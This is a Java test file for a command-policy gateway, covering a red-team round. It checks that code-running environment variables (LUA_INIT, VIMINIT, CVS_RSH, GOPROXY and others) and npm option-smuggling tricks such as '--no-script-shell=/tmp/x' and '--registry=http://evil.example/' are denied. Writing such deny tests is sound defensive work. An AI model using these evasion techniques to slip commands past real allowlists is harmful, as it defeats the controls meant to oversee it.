package dev.gatehouse.policy;

import static dev.gatehouse.policy.ArgvEvasionTest.allow;
import static dev.gatehouse.policy.ArgvEvasionTest.deny;
import static dev.gatehouse.policy.ArgvEvasionTest.line;
import static dev.gatehouse.policy.ArgvEvasionTest.withEnv;
import static dev.gatehouse.policy.Fixtures.decide;
import static dev.gatehouse.policy.Fixtures.human;
import static dev.gatehouse.policy.Fixtures.policy;
import static dev.gatehouse.policy.Fixtures.target;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Nineteenth red-team round (rt19exec): every denial up to the comment "already decided" was
 * allowed before its fix. Variables that run code or choose where a tool fetches code, through a
 * wildcard {@code env} (D-Bus {@code unixexec:} addresses, {@code LUA_INIT}, Go's {@code GO*}
 * settings, node-gyp's {@code npm_config_python}, scoped npm registries, version managers...);
 * npm's String options, which never take a next word that looks like an option (nopt), read by the
 * gateway as taking it; and {@code git --bare}, which makes the working directory the repository
 * (and its {@code config} the configuration) as {@code --git-dir=.} does.
 */
class ArgvNineteenthRoundTest {
  /** Any program, any ordinary variable: the wildcard must still refuse the risky ones. */
  static final PolicySet ANY_ENV =
      policy(
          """
          rules:
            - id: any-env
              effect: allow
              command: { binary: [npm, go, make, lua, systemctl, zip, cvs, svn], env: ["*"] }
          """);

  /** An npm rule that lets the caller give a dist-tag: --tag is a String option in npm. */
  static final PolicySet NPM_TAG =
      policy(
          """
          rules:
            - id: npm-test-tag
              effect: allow
              command:
                binary: npm
                subcommand: [test, ci]
                flags_with_values: [--tag, --loglevel, -w]
                flags: { allowed: [--tag, --loglevel, -w, --silent] }
          """);

  /** npm ci and npm test with no flag list: the risky-flag catalogue is the only guard. */
  static final PolicySet NPM_ANY =
      policy(
          """
          rules:
            - id: npm
              effect: allow
              command: { binary: npm, subcommand: [ci, test] }
          """);

  /** git reads, no flag list: the risky-flag catalogue is the only guard. */
  static final PolicySet GIT =
      policy(
          """
          rules:
            - id: git-read
              effect: allow
              command: { binary: git, subcommand: [status, log, init] }
          """);

  static Stream<Arguments> cases() {
    return Stream.of(
        // --- variables through a wildcard (CommandMatcher.riskyEnv) ---
        // D-Bus's unixexec: transport runs a program to reach the bus (dbus-specification,
        // "Server Addresses"): any libdbus/GDBus client (systemctl --user, gio, notify-send)
        deny(
            "DBUS_SESSION_BUS_ADDRESS",
            ANY_ENV,
            env("systemctl --user status", "DBUS_SESSION_BUS_ADDRESS")),
        deny(
            "DBUS_SYSTEM_BUS_ADDRESS", ANY_ENV, env("systemctl status", "DBUS_SYSTEM_BUS_ADDRESS")),
        // lua(1): LUA_INIT (and LUA_INIT_5_4) is Lua code, or @FILE, run before the script
        deny("LUA_INIT", ANY_ENV, env("lua x.lua", "LUA_INIT")),
        deny("LUA_INIT_5_4", ANY_ENV, env("lua x.lua", "LUA_INIT_5_4")),
        // go help environment: GOAUTH runs a command for credentials, GOPROXY/GOWORK/GOVCS/GOSUMDB/
        // GOINSECURE choose where modules (code) come from and whether they are checked
        deny("GOAUTH runs a command", ANY_ENV, env("go build ./...", "GOAUTH")),
        deny("GOPROXY", ANY_ENV, env("go build ./...", "GOPROXY")),
        deny("GOWORK", ANY_ENV, env("go build ./...", "GOWORK")),
        deny("GOVCS", ANY_ENV, env("go build ./...", "GOVCS")),
        deny("GONOSUMDB", ANY_ENV, env("go build ./...", "GONOSUMDB")),
        deny(
            "GOOGLE_APPLICATION_CREDENTIALS",
            ANY_ENV,
            env("go run .", "GOOGLE_APPLICATION_CREDENTIALS")),
        // node-gyp (run by npm ci for native addons) reads npm_config_python (find-python.js) and
        // runs it; dist_url/tarball fetch the headers whose common.gypi may run <!(commands)
        deny("npm_config_python", ANY_ENV, env("npm ci", "npm_config_python")),
        deny("NPM_CONFIG_PYTHON", ANY_ENV, env("npm ci", "NPM_CONFIG_PYTHON")),
        deny("npm_config_dist_url", ANY_ENV, env("npm ci", "npm_config_dist_url")),
        deny("npm_config_tarball", ANY_ENV, env("npm ci", "npm_config_tarball")),
        // a scoped registry is a registry (@npmcli/config loadEnv keeps @ and :), and a nerf-darted
        // key (//host/:_authToken) a credential bound to a host the caller names
        deny("a scoped registry", ANY_ENV, env("npm ci", "npm_config_@acme:registry")),
        deny(
            "a nerf-darted credential",
            ANY_ENV,
            env("npm ci", "npm_config_//evil.example/:_authToken")),
        // remote shells of version-control tools: cvs(1) CVS_RSH/CVS_SERVER, svn's SVN_SSH
        deny("CVS_RSH", ANY_ENV, env("cvs update", "CVS_RSH")),
        deny("CVS_SERVER", ANY_ENV, env("cvs update", "CVS_SERVER")),
        deny("SVN_SSH", ANY_ENV, env("svn update", "SVN_SSH")),
        // ex commands run at startup (vim :help VIMINIT, EXINIT): :!sh
        deny("VIMINIT", ANY_ENV, env("make test", "VIMINIT")),
        deny("EXINIT", ANY_ENV, env("make test", "EXINIT")),
        deny("FCEDIT", ANY_ENV, env("make test", "FCEDIT")),
        // zip(1) reads options from ZIP and ZIPOPT (-TT CMD runs CMD); gzip/bzip2/xz likewise
        deny("ZIP", ANY_ENV, env("zip -r o.zip src", "ZIP")),
        deny("GZIP", ANY_ENV, env("make test", "GZIP")),
        deny("XZ_DEFAULTS", ANY_ENV, env("make test", "XZ_DEFAULTS")),
        // package installers that read every setting from their namespace: pip's index, uv's
        // interpreter, Bun's registry
        deny("PIP_INDEX_URL", ANY_ENV, env("make test", "PIP_INDEX_URL")),
        deny("UV_PYTHON", ANY_ENV, env("make test", "UV_PYTHON")),
        deny("BUN_CONFIG_REGISTRY", ANY_ENV, env("make test", "BUN_CONFIG_REGISTRY")),
        deny("pnpm_config_registry", ANY_ENV, env("make test", "pnpm_config_registry")),
        // version managers pick the interpreter their shims run
        deny("PYENV_VERSION", ANY_ENV, env("make test", "PYENV_VERSION")),
        deny("VIRTUAL_ENV", ANY_ENV, env("make test", "VIRTUAL_ENV")),
        deny("ASDF_NODEJS_VERSION", ANY_ENV, env("make test", "ASDF_NODEJS_VERSION")),
        deny("MISE_ENV", ANY_ENV, env("make test", "MISE_ENV")),
        // R runs R_PROFILE_USER; .NET loads a profiler (CORECLR_PROFILER) or COMPlus_ settings;
        // gcc writes DEPENDENCIES_OUTPUT where it says; OCAMLPARAM passes -pp (a program)
        deny("R_PROFILE_USER", ANY_ENV, env("make test", "R_PROFILE_USER")),
        deny("CORECLR_PROFILER", ANY_ENV, env("make test", "CORECLR_PROFILER")),
        deny("COMPlus_ settings", ANY_ENV, env("make test", "COMPlus_EnableDiagnostics")),
        deny("DEPENDENCIES_OUTPUT", ANY_ENV, env("make test", "DEPENDENCIES_OUTPUT")),
        deny("OCAMLPARAM", ANY_ENV, env("make test", "OCAMLPARAM")),
        // terraform connects to providers already running where the caller says
        deny("TF_REATTACH_PROVIDERS", ANY_ENV, env("make test", "TF_REATTACH_PROVIDERS")),
        // other identities and trust: gcloud's properties, Vault's address and token
        deny("CLOUDSDK_CORE_ACCOUNT", ANY_ENV, env("make test", "CLOUDSDK_CORE_ACCOUNT")),
        deny("VAULT_ADDR", ANY_ENV, env("make test", "VAULT_ADDR")),
        // getopt stops at the first operand: flags after it become file names the rule never saw
        deny("POSIXLY_CORRECT", ANY_ENV, env("make test", "POSIXLY_CORRECT")),
        deny("TERMCAP", ANY_ENV, env("make test", "TERMCAP")),
        // --- npm String options (nopt: a String option never takes a next word like -x/--x) ---
        deny(
            "--tag does not take --registry=... (npm reads the registry)",
            NPM_TAG,
            line("npm test --tag --registry=http://evil.example/")),
        // nopt strips every leading dash and every no-; a negated option whose type admits a
        // String takes the value after = or the next word (npm 11.19.1: each of these ran the
        // script shell /tmp/x for npm test)
        deny("--no-script-shell=X", NPM_ANY, line("npm test --no-script-shell=/tmp/x")),
        deny("--no-script-shell X", NPM_ANY, line("npm test --no-script-shell /tmp/x")),
        deny("--NO-no-script-shell=X", NPM_ANY, line("npm test --NO-no-script-shell=/tmp/x")),
        deny("---script-shell=X", NPM_ANY, line("npm test ---script-shell=/tmp/x")),
        deny("----userconfig=X", NPM_ANY, line("npm test ----userconfig=/tmp/x")),
        deny("--no-prefix DIR", NPM_ANY, line("npm test --no-prefix /tmp/evil")),
        deny("-no-node-options=X", NPM_ANY, line("npm test -no-node-options=--require=/tmp/x.js")),
        deny("--no-script-sh=X (abbreviated)", NPM_ANY, line("npm test --no-script-sh=/tmp/x")),
        // nopt splits --tag=VALUE, and a String option leaves an option-like VALUE to be read
        // (npm 11.19.1 ran the script shell of npm test --tag=--script-shell=/tmp/x)
        deny("--tag=--script-shell=X", NPM_ANY, line("npm test --tag=--script-shell=/tmp/x")),
        deny("--tag=--tag=--userconfig=X", NPM_ANY, line("npm test --tag=--tag=--userconfig=/x")),
        deny(
            "--tag=--registry=URL past flags.allowed",
            NPM_TAG,
            line("npm test --tag=--registry=http://evil.example/")),
        // --no-otp takes the next word (npm --no-otp x config get otp prints x): publish runs
        deny("--no-otp takes test, publish runs", NPM_ANY, line("npm --no-otp test publish")),
        deny("--no-workspace takes test", NPM_ANY, line("npm --no-workspace test publish")),
        // --- git --bare: the working directory is the repository (git.c handle_options) ---
        deny("git --bare status", GIT, line("git --bare status")),
        deny("git --bare after another global option", GIT, line("git --no-pager --bare log")),
        // --- already decided (the catalogue finds risky flags wherever they are) ---
        deny("--tag does not take -C", NPM_TAG, line("npm test --tag -C /tmp/evil")),
        deny(
            "--tag does not take --script-shell",
            NPM_TAG,
            line("npm test --tag --script-shell=/tmp/x")),
        allow("an ordinary variable", ANY_ENV, env("make test", "CI", "TZ", "COLUMNS")),
        allow(
            "a go runtime variable listed by name",
            GO_BY_NAME,
            env("go build ./...", "GOOS", "GOARCH")),
        allow("npm_config_loglevel", ANY_ENV, env("npm ci", "npm_config_loglevel")),
        allow("--tag with a value", NPM_TAG, line("npm test --tag beta")),
        allow("--tag=value", NPM_TAG, line("npm test --tag=beta")),
        allow("--loglevel with a value", NPM_TAG, line("npm --loglevel silent test")),
        allow("-w with a value", NPM_TAG, line("npm test -w pkg --silent")),
        deny(
            "--loglevel takes --tag, then publish is the command",
            NPM_TAG,
            line("npm --loglevel --tag publish test")),
        allow("git status", GIT, line("git status")),
        allow("--no-audit is a Boolean's negation", NPM_ANY, line("npm --no-audit ci")),
        allow(
            "--no-fund and --no-update-notifier",
            NPM_ANY,
            line("npm ci --no-fund --no-update-notifier")),
        allow("--no-audit before test", NPM_ANY, line("npm --no-audit --no-package-lock test")),
        allow("--no-optional is a Boolean's negation", NPM_ANY, line("npm --no-optional ci")),
        allow("git init --bare is init's own option", GIT, line("git init --bare repo.git")));
  }

  /** Go's runtime variables are refused through a wildcard since this round: list them by name. */
  static final PolicySet GO_BY_NAME =
      policy(
          """
          rules:
            - id: go-build
              effect: allow
              command: { binary: go, subcommand: build, env: [GOOS, GOARCH, "*"] }
          """);

  private static Action env(String command, String... names) {
    return withEnv(line(command), names);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void decides(String name, PolicySet p, Action a, Effect expected) {
    Decision d = decide(p, human("mallory"), target("runner"), a);
    assertThat(d.effect()).as(name + ": " + a.raw() + " -> " + d.explanation()).isEqualTo(expected);
  }

  @Test
  void theExplanationsNameTheVariableTheFlagsAndTheRule() {
    Decision env =
        decide(
            ANY_ENV,
            human("mallory"),
            target("runner"),
            env("systemctl status", "DBUS_SYSTEM_BUS_ADDRESS"));
    assertThat(String.join("\n", env.explanation()))
        .contains("any-env")
        .contains("DBUS_SYSTEM_BUS_ADDRESS may not be set");
    Decision npm =
        decide(
            NPM_TAG,
            human("mallory"),
            target("runner"),
            line("npm test --tag --registry=http://evil.example/"));
    assertThat(String.join("\n", npm.explanation()))
        .contains("npm-test-tag")
        .contains("may read --registry as an option rather than as the value of --tag")
        .doesNotContain("evil.example");
  }
}
